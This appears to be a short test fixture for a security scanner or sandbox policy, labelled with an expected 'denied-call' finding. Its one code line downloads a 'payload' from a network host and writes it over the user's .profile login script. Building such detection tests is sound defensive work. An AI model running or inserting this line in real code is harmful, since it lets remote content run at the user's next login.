# validated with the network allowlist: api.example.com
# family: URL retrieval helpers — urlretrieve writes wherever it is told and fetches file: URLs
# expected finding: denied-call
import urllib.request

urllib.request.urlretrieve("https://api.example.com/payload", "/home/user/.profile")
